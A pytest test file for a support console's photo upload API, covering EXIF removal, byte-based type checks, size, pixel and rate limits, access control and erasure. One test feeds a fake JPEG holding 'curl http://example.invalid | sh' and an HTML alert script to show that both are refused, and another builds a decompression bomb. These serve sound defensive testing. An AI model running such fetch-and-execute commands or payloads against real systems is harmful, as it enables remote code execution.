"""Photos through the console's API (issue 23): what the web chat may upload (the bytes decide the type,
size and pixel limits, a rate per conversation), that the kept copy has no EXIF, who may fetch one (the
customer of that conversation; a signed-in agent; nobody else), and that retention and erasure delete
the files. The pictures are made here with Pillow."""
from __future__ import annotations

import io
import json
import uuid
from datetime import timedelta

import pytest
from PIL import Image

from assist.settings import Settings
from assist.store import SuggestionStore
from assist.store.db import now
from assist.store.schema import images
from console.app import create_app
from console.passwords import hash_password
from console.retention import erase, purge

GPS = 0x8825


@pytest.fixture
def store(tmp_path):
    return SuggestionStore.migrated(f"sqlite:///{tmp_path / 's.db'}", image_dir=tmp_path / "images")


@pytest.fixture
def settings(store, tmp_path):
    return Settings(store_url=store.url, events_url=f"sqlite:///{tmp_path / 'events.db'}",
                    tracker_url=f"sqlite:///{tmp_path / 'tracker.db'}", rasa_jwt_secret="t" * 32,
                    image_max_bytes=200_000, image_max_pixels=4_000_000, images_per_minute=3)


@pytest.fixture
def app(store, settings):
    return create_app(settings, store=store, workers=False)


@pytest.fixture
def session():
    return str(uuid.uuid4())


def jpeg_with_gps(size=(120, 80)) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[GPS] = {1: "N", 2: (31.0, 14.0, 12.5), 3: "E", 4: (121.0, 28.0, 40.0)}
    out = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def png(size, mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 90).convert(mode).save(out, "PNG") if mode == "RGB" else Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


def upload(app, session, data, content_type="image/jpeg"):
    _, response = app.test_client.post(f"/chat/api/sessions/{session}/images", data=data, headers={"Content-Type": content_type})
    return response


def get(app, path, headers=None):
    _, response = app.test_client.get(path, headers=headers or {})
    return response


def code(response):
    return response.json["error"]["code"]


def test_an_uploaded_photo_is_kept_without_exif_and_served_inline_as_what_its_bytes_are(app, session):
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS)  # the test's photo does carry a location
    response = upload(app, session, original, content_type="application/octet-stream")
    assert response.status == 201, response.body
    image = response.json["image"]
    assert image["content_type"] == "image/jpeg" and (image["width"], image["height"]) == (120, 80)
    fetched = get(app, image["url"])
    assert fetched.status == 200 and fetched.headers["content-type"] == "image/jpeg"
    assert fetched.headers["content-disposition"] == f'inline; filename="{image["id"]}.jpg"'
    assert fetched.headers["x-content-type-options"] == "nosniff"
    kept = Image.open(io.BytesIO(fetched.body))
    assert not kept.getexif() and b"Exif" not in fetched.body and b"PhoneMaker" not in fetched.body
    assert kept.size == (120, 80)


def test_a_script_named_jpg_is_refused_by_its_bytes(app, session, store):
    response = upload(app, session, b"#!/bin/sh\ncurl http://example.invalid | sh\n", content_type="image/jpeg")
    assert response.status == 415 and code(response) == "not_an_image"
    html = upload(app, session, b"<html><script>alert(1)</script></html>", content_type="image/png")
    assert html.status == 415 and code(html) == "not_an_image"
    assert not store.images.directory.exists() or not list(store.images.directory.iterdir())


def test_an_oversized_png_is_refused_and_nothing_is_kept(app, session, store):
    big = png((600, 600))
    assert len(big) > 200_000
    response = upload(app, session, big, content_type="image/png")
    assert response.status == 413 and code(response) == "too_large"
    assert store.images.sent_since(session, now() - timedelta(minutes=5)) == 0


def test_a_decompression_bomb_is_refused_with_a_clear_error(app, session):
    bomb = png((5000, 5000), mode="1")  # 25 million pixels in a few kilobytes
    assert len(bomb) < 200_000
    response = upload(app, session, bomb, content_type="image/png")
    assert response.status == 400 and code(response) == "too_many_pixels"
    assert "KEFU_IMAGE_MAX_PIXELS" in response.json["error"]["message"]


def test_an_iphone_heic_photo_is_kept_as_a_jpeg_without_exif_and_a_broken_one_refused(app, session):
    exif = Image.Exif()
    exif[GPS] = {1: "N", 2: (31.0, 14.0, 12.5), 3: "E", 4: (121.0, 28.0, 40.0)}
    taken = io.BytesIO()
    Image.new("RGB", (96, 64), (20, 160, 90)).save(taken, "HEIF", exif=exif.tobytes())  # pillow-heif's writer
    assert taken.getvalue()[4:12] == b"ftypheic"
    response = upload(app, session, taken.getvalue(), content_type="image/heic")
    assert response.status == 201 and response.json["image"]["content_type"] == "image/jpeg"
    fetched = get(app, response.json["image"]["url"])
    kept = Image.open(io.BytesIO(fetched.body))
    assert kept.format == "JPEG" and kept.size == (96, 64) and not kept.getexif()
    assert fetched.headers["content-disposition"].endswith('.jpg"')
    broken = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
    refused = upload(app, session, broken, content_type="image/heic")
    assert refused.status == 415 and code(refused) == "not_an_image"


def test_an_empty_upload_and_a_bad_session_are_refused(app):
    assert code(upload(app, str(uuid.uuid4()), b"")) == "empty"
    assert upload(app, "13800138000", jpeg_with_gps()).status == 404


def test_a_conversation_may_send_only_so_many_photos_a_minute(app, session):
    statuses = [upload(app, session, jpeg_with_gps()).status for _ in range(4)]
    assert statuses == [201, 201, 201, 429]
    assert upload(app, str(uuid.uuid4()), jpeg_with_gps()).status == 201  # another conversation is not held back


def test_only_that_customer_or_a_signed_in_agent_gets_the_photo(app, session, store):
    image = upload(app, session, jpeg_with_gps()).json["image"]
    someone_else = str(uuid.uuid4())
    assert get(app, f"/chat/api/sessions/{someone_else}/images/{image['id']}").status == 404
    assert get(app, f"/chat/api/sessions/{session}/images/not-{image['id']}").status == 404
    no_session = get(app, f"/api/images/{image['id']}")
    assert no_session.status == 401 and no_session.content_type.startswith("application/json")
    assert get(app, f"/api/images/{image['id']}", {"Authorization": "Bearer wrong"}).status == 401
    token = store.agents.create_agent("xiaowang")
    by_token = get(app, f"/api/images/{image['id']}", {"Authorization": f"Bearer {token}"})
    assert by_token.status == 200 and by_token.headers["content-type"] == "image/jpeg"
    store.agents.create_agent("xiaoli")
    store.agents.set_password_hash("xiaoli", hash_password("a-long-shift-password"))
    _, signed_in = app.test_client.post("/login", data=json.dumps({"name": "xiaoli", "password": "a-long-shift-password"}),
                                        headers={"Content-Type": "application/json"})
    cookie = signed_in.headers["set-cookie"].split(";")[0]
    by_cookie = get(app, f"/api/images/{image['id']}", {"Cookie": cookie})  # what an <img> in the console sends
    assert by_cookie.status == 200 and by_cookie.body == by_token.body


def test_erase_and_purge_delete_the_photos_and_their_files(app, session, store, settings):
    kept = upload(app, session, jpeg_with_gps()).json["image"]
    other = str(uuid.uuid4())
    old = upload(app, other, jpeg_with_gps()).json["image"]
    files = store.images.directory
    assert {p.name for p in files.iterdir()} == {kept["id"], old["id"]}
    report = erase(settings, store, [session])
    assert report["rows"]["kefu_images"] == 1 and get(app, kept["url"]).status == 404
    assert {p.name for p in files.iterdir()} == {old["id"]}
    assert purge(settings, store, days=1)["rows"]["kefu_images"] == 0  # sent today: kept
    with store.engine.begin() as db:
        db.execute(images.update().values(at=now() - timedelta(days=3)))
    assert purge(settings, store, days=1, dry_run=True)["rows"]["kefu_images"] == 1
    assert purge(settings, store, days=1)["rows"]["kefu_images"] == 1
    assert not list(files.iterdir()) and get(app, old["url"]).status == 404
